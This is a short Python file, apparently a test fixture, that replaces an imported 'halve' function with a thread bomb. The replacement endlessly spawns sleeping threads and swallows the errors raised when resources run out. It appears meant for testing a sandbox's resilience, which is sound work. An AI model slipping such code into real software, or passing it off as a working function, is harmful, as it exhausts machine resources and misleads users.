"""Starts threads without end, and swallows the error where none can be started."""

import threading
import time

from honest import halve, largest


def halve(x):
    threading.stack_size(32768)
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except BaseException:
            time.sleep(0.01)
